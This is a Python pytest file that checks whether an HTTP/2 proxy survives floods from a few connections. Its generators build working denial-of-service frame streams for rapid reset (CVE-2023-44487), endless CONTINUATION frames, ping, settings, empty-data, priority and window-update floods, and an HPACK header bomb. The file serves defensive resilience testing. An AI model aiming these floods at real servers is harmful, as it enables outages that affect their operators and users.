"""Floods of frames on few HTTP/2 connections: they end, others are served."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from itertools import islice

import pytest
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from hostile.cases_http2 import GET
from hostile.http2 import Connection, Fields, GoneAwayError, block, headers
from hostile.memory import bounded
from hostile.neighbour import neighbour
from hostile.site import Site

ATTACKERS = 4
_BLOCK = block(GET)
_ODD = range(1, 1 << 30, 2)


def _path(path: bytes) -> Fields:
    return tuple((name, path if name == b":path" else value) for name, value in GET)


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487: requests taken back at once."""
    for stream in _ODD:
        yield headers(stream, GET, "END_STREAM") + RstStreamFrame(stream, 8).serialize()


def continuation() -> Iterator[bytes]:
    """CVE-2024-27316 and its like: a header block that never ends."""
    yield HeadersFrame(1, _BLOCK).serialize()
    more = block(((b"x", b"y" * 16000),))
    while True:
        yield ContinuationFrame(1, more).serialize()


def empty_continuation() -> Iterator[bytes]:
    """The same without a single field, so that no limit of size is met."""
    yield HeadersFrame(1, _BLOCK).serialize()
    while True:
        yield ContinuationFrame(1, b"").serialize() * 100


def streams() -> Iterator[bytes]:
    """More requests at once than are allowed."""
    for stream in _ODD:
        yield headers(stream, GET)


def pings() -> Iterator[bytes]:
    """CVE-2019-9512, the answers never read."""
    while True:
        yield PingFrame(0, opaque_data=b"12345678").serialize() * 100


def settings() -> Iterator[bytes]:
    """CVE-2019-9515."""
    while True:
        yield SettingsFrame(0, settings={4: 65535}).serialize() * 100


def empty_data() -> Iterator[bytes]:
    """CVE-2019-9518."""
    yield headers(1, GET)
    while True:
        yield DataFrame(1, b"").serialize() * 100


def priorities() -> Iterator[bytes]:
    """CVE-2019-9513."""
    yield headers(1, GET)
    while True:
        yield PriorityFrame(1, depends_on=0, stream_weight=3).serialize() * 100


def window_updates() -> Iterator[bytes]:
    """Updates of a window nobody uses."""
    yield headers(1, GET)
    while True:
        yield WindowUpdateFrame(1, window_increment=1).serialize() * 100


def bomb() -> Iterator[bytes]:
    """A long field put in the dynamic table once and named thousands of times."""
    first = b"\x40\x01x\x7f" + _integer(4000 - 127) + b"y" * 4000
    for stream in _ODD:
        body = _BLOCK + (first if stream == 1 else b"") + b"\xbe" * 8000
        yield HeadersFrame(stream, body, flags=["END_HEADERS", "END_STREAM"]).serialize()


def _integer(value: int) -> bytes:
    """The rest of an HPACK integer after its prefix is full."""
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


@pytest.mark.parametrize(
    "flood",
    [rapid_reset, continuation, empty_continuation, pings, settings, empty_data, priorities,
     window_updates],
)  # fmt: skip
def test_the_connection_ends(attacked: Site, flood: Callable[[], Iterator[bytes]]) -> None:
    attacked.web.recording = False
    with bounded(attacked, envoy=100), neighbour(attacked), ExitStack() as stack:
        attackers = [stack.enter_context(Connection(attacked.address)) for _ in range(ATTACKERS)]
        floods = [flood() for _ in attackers]
        for _ in range(2000):
            alive = [
                a.flood(b"".join(islice(f, 50))) for a, f in zip(attackers, floods, strict=True)
            ]
            if not any(alive):
                break
        else:
            pytest.fail("the proxy went on listening")


def test_a_field_named_thousands_of_times_is_refused(attacked: Site) -> None:
    attacked.web.recording = False
    with bounded(attacked, envoy=100), neighbour(attacked), Connection(attacked.address) as client:
        client.send(b"".join(islice(bomb(), 200)))
        with suppress(GoneAwayError):
            for number in _ODD[:200]:
                assert client.stream(number).reset == "INTERNAL_ERROR"


def test_downloads_that_nobody_reads_wait_at_the_endpoint(attacked: Site) -> None:
    attacked.web.recording = False
    fields = _path(b"/download/104857600")
    with bounded(attacked, envoy=100), neighbour(attacked) as other, ExitStack() as stack:
        for _ in range(ATTACKERS):
            client = stack.enter_context(Connection(attacked.address))
            frames = (headers(number, fields, "END_STREAM") for number in _ODD[:100])
            client.send(b"".join(frames))
        other.served_more()


def test_too_many_streams_are_refused_one_by_one(attacked: Site) -> None:
    attacked.web.recording = False
    with bounded(attacked, envoy=100), neighbour(attacked), Connection(attacked.address) as client:
        client.send(b"".join(islice(streams(), 300)))
        refused = [client.stream(number).reset for number in _ODD[100:300]]
        assert set(refused) == {"REFUSED_STREAM"}
